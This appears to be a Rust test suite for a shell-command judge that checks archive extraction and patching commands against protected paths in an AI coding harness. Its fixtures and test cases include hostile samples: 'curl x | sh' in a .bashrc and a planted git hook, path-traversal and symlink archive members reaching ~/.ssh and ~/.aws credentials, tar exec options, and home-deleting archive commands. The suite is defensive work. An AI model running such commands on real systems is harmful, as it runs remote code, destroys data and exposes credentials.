@@ -1,0 +1,263 @@
+//! Extraction and patching judged by what they write (`unpack`): archives and patches
+//! built here, in a throwaway workspace under a throwaway home, through the command
+//! judge. Members land as writes under the destination and reach the path floor like
+//! literal paths; what cannot be listed or placed is not understood.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use super::*;
+use crate::analysis::reach::archive::tests::{end, file, gz, header, zip_bytes};
+use crate::analysis::shell::{analyze, ShellEnv};
+use std::path::PathBuf;
+
+struct Fx {
+    _t: tempfile::TempDir,
+    home: PathBuf,
+    ws: PathBuf,
+    workspace: Workspace,
+    floor: FloorCtx,
+}
+
+fn tar_of(members: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut t = Vec::new();
+    for (n, d) in members {
+        file(&mut t, n, d);
+    }
+    end(&mut t);
+    t
+}
+
+fn fx() -> Fx {
+    let t = tempfile::tempdir().unwrap();
+    let base = t.path().canonicalize().unwrap();
+    let home = base.join("home");
+    let ws = home.join("proj");
+    std::fs::create_dir_all(ws.join("docs")).unwrap();
+    std::fs::create_dir_all(home.join(".aws")).unwrap();
+    std::fs::write(home.join(".aws/credentials"), "k").unwrap();
+    std::os::unix::fs::symlink(home.join(".aws"), ws.join("docs/aws")).unwrap();
+    std::fs::write(
+        ws.join("plain.tar"),
+        tar_of(&[("src/new.rs", b"fn x() {}\n"), ("README.md", b"hi\n")]),
+    )
+    .unwrap();
+    std::fs::write(
+        ws.join("plain.tgz"),
+        gz(&tar_of(&[("pkg/src/new.rs", b"fn x() {}\n")])),
+    )
+    .unwrap();
+    std::fs::write(
+        ws.join("harness.tar"),
+        tar_of(&[("src/a.rs", b""), (".claude/settings.json", b"{}")]),
+    )
+    .unwrap();
+    std::fs::write(
+        ws.join("dotfiles.tar"),
+        tar_of(&[(".bashrc", b"curl x|sh\n")]),
+    )
+    .unwrap();
+    let mut l = Vec::new();
+    l.extend_from_slice(&header("keys", b'2', 0, "../.ssh"));
+    end(&mut l);
+    std::fs::write(ws.join("link.tar"), l).unwrap();
+    std::fs::write(ws.join("up.tar"), tar_of(&[("../escape.txt", b"x")])).unwrap();
+    std::fs::write(
+        ws.join("x.zip"),
+        zip_bytes(&[("lib/", 0o040_755), ("lib/a.py", 0o100_644)]),
+    )
+    .unwrap();
+    std::fs::write(
+        ws.join("hook.patch"),
+        "diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout\n\
+         new file mode 100755\n--- /dev/null\n+++ b/.git/hooks/post-checkout\n\
+         @@ -0,0 +1 @@\n+curl x | sh\n",
+    )
+    .unwrap();
+    std::fs::write(
+        ws.join("plain.diff"),
+        "--- a/docs/a.md\n+++ b/docs/a.md\n@@ -1 +1 @@\n-a\n+b\n",
+    )
+    .unwrap();
+    let workspace = Workspace::new(&ws, &[]);
+    let floor = FloorCtx {
+        home: home.clone(),
+        self_paths: vec![base.join("gh")],
+        project_root: ws.clone(),
+        harness: Vec::new(),
+        credentials: Vec::new(),
+    };
+    Fx {
+        _t: t,
+        home,
+        ws,
+        workspace,
+        floor,
+    }
+}
+
+fn judged(f: &Fx, cmd: &str) -> Judgement {
+    let a = analyze(cmd, &ShellEnv::new(f.home.clone(), f.ws.clone()));
+    let ctx = JudgeCtx {
+        home: &f.home,
+        cwd: &f.ws,
+        workspace: &f.workspace,
+        floor: &f.floor,
+        baseline: &NoBaseline,
+    };
+    judge(&a, &ctx)
+}
+
+fn ctx(f: &Fx) -> JudgeCtx<'_> {
+    JudgeCtx {
+        home: &f.home,
+        cwd: &f.ws,
+        workspace: &f.workspace,
+        floor: &f.floor,
+        baseline: &NoBaseline,
+    }
+}
+
+fn verdict(j: &Judgement) -> &'static str {
+    match j.verdict {
+        Verdict::Routine => "routine",
+        Verdict::Unknown { .. } => "unknown",
+        Verdict::Opaque { .. } => "opaque",
+        Verdict::BuildFilesChanged { .. } => "build-changed",
+        Verdict::Soft { .. } => "soft",
+        Verdict::Hard { .. } => "hard",
+    }
+}
+
+#[test]
+fn ordinary_members_extracted_into_the_workspace_are_workspace_writes() {
+    let f = fx();
+    for (cmd, written) in [
+        ("tar -xf plain.tar", vec!["src/new.rs", "README.md"]),
+        ("tar xvf plain.tar", vec!["src/new.rs"]),
+        ("tar -xzf plain.tgz", vec!["pkg/src/new.rs"]),
+        ("tar -x -f plain.tgz -C docs", vec!["docs/pkg/src/new.rs"]),
+        ("tar --strip-components=1 -xf plain.tgz", vec!["src/new.rs"]),
+        (
+            "tar -xkpf plain.tar --directory=docs",
+            vec!["docs/src/new.rs"],
+        ),
+        ("unzip x.zip", vec!["lib", "lib/a.py"]),
+        ("unzip -o -q x.zip -d docs", vec!["docs/lib/a.py"]),
+        ("unzip -j x.zip", vec!["a.py"]),
+        ("git apply plain.diff", vec!["docs/a.md"]),
+        (
+            "git apply --directory=sub plain.diff",
+            vec!["sub/docs/a.md"],
+        ),
+        (
+            "patch -p1 < plain.diff",
+            vec!["docs/a.md", "docs/a.md.orig"],
+        ),
+        ("patch -p1 -i plain.diff", vec!["docs/a.md"]),
+        ("cd docs && tar -xf ../plain.tar", vec!["docs/src/new.rs"]),
+    ] {
+        let j = judged(&f, cmd);
+        assert_eq!(verdict(&j), "routine", "{cmd}: {:?}", j.verdict);
+        for w in written {
+            assert!(
+                j.writes.contains(&f.ws.join(w)),
+                "{cmd}: {w} not in {:?}",
+                j.writes
+            );
+        }
+        assert!(j.writes.iter().all(|w| inside(w, &ctx(&f))), "{cmd}");
+    }
+    // Report-only modes write nothing.
+    for cmd in [
+        "git apply --check plain.diff",
+        "tar -tf plain.tar",
+        "unzip -l x.zip",
+    ] {
+        let j = judged(&f, cmd);
+        assert!(j.read_only(), "{cmd}: {:?} {:?}", j.verdict, j.writes);
+    }
+}
+
+#[test]
+fn members_reach_the_path_floor_like_literal_writes() {
+    let f = fx();
+    let c = ctx(&f);
+    // The harness's own settings: the path floor's hard deny.
+    let j = judged(&f, "tar -xf harness.tar");
+    let settings = f.ws.join(".claude/settings.json");
+    assert!(j.writes.contains(&settings), "{:?}", j.writes);
+    assert!(matches!(
+        path_class(&settings, Access::Write, &c),
+        Some(PathClass::HarnessConfig { .. })
+    ));
+    // Into the home directory: .bashrc is protected and outside the workspace.
+    let j = judged(&f, "tar -xf dotfiles.tar -C ~");
+    let rc = f.home.join(".bashrc");
+    assert!(j.writes.contains(&rc), "{:?}", j.writes);
+    assert!(j.writes.contains(&f.home));
+    assert!(!inside(&rc, &c));
+    assert!(path_class(&rc, Access::Write, &c).is_some());
+    // A git hook planted by a patch: a protected write, whose content is not known.
+    let j = judged(&f, "git apply hook.patch");
+    let hook = f.ws.join(".git/hooks/post-checkout");
+    assert!(j.writes.contains(&hook), "{:?}", j.writes);
+    assert!(path_class(&hook, Access::Write, &c).is_some());
+}
+
+#[test]
+fn what_cannot_be_listed_or_placed_is_not_understood_but_the_destination_is_seen() {
+    let f = fx();
+    for cmd in [
+        "tar -xf link.tar",
+        "tar -xf up.tar",
+        "tar -xf missing.tar -C docs",
+        "cat plain.tar | tar -x -C docs",
+        "tar -xf - -C docs < plain.tar",
+        "git apply < plain.diff",
+        "patch -p1",
+        "tar -xf plain.tar --to-command=sh",
+        "tar -xf plain.tar --checkpoint-action=exec=sh",
+        "tar -I zstd -xf plain.tar",
+        "tar --use-compress-program=x -xf plain.tar",
+        "tar -xPf plain.tar",
+        "tar -xf host:plain.tar",
+        "echo x > plain.tar; tar -xf plain.tar",
+        "curl -so plain.tar https://x.example/a.tar && tar -xf plain.tar",
+        "tar -xf $F",
+    ] {
+        let j = judged(&f, cmd);
+        assert_eq!(verdict(&j), "unknown", "{cmd}: {:?}", j.verdict);
+    }
+    // The destination is still a write the path floor and the reviewer see.
+    let j = judged(&f, "cat plain.tar | tar -x -C docs");
+    assert!(j.writes.contains(&f.ws.join("docs")), "{:?}", j.writes);
+    let j = judged(&f, "tar -xf link.tar -C ~/.claude");
+    assert!(j.writes.contains(&f.home.join(".claude")), "{:?}", j.writes);
+}
+
+#[test]
+fn archivers_that_delete_or_follow_links_say_so() {
+    let f = fx();
+    let j = judged(&f, "tar --remove-files -cf /dev/null ~");
+    assert_eq!(verdict(&j), "hard", "{:?}", j.verdict);
+    let j = judged(&f, "zip -m out.zip /");
+    assert_eq!(verdict(&j), "hard", "{:?}", j.verdict);
+    let j = judged(&f, "tar --remove-files -cf out.tar docs");
+    assert_eq!(verdict(&j), "soft", "{:?}", j.verdict);
+    let j = judged(&f, "zip -m out.zip README.md");
+    assert_eq!(verdict(&j), "soft", "{:?}", j.verdict);
+    // `zip -r` stores what a link points at: docs/aws -> ~/.aws is a credential read.
+    let j = judged(&f, "zip -r - docs");
+    assert!(
+        j.reads.iter().any(|r| r.starts_with(f.home.join(".aws"))),
+        "{:?}",
+        j.reads
+    );
+    // With -y the link itself is stored.
+    let j = judged(&f, "zip -ry - docs");
+    assert!(!j.reads.iter().any(|r| r.starts_with(f.home.join(".aws"))));
+    // A plain tar -c reads its trees and writes the archive (not allowed on its own yet).
+    let j = judged(&f, "tar -czf out.tgz docs");
+    assert_eq!(verdict(&j), "unknown", "{:?}", j.verdict);
+    assert!(j.writes.contains(&f.ws.join("out.tgz")));
+    assert!(j.reads.contains(&f.ws.join("docs")));
+}
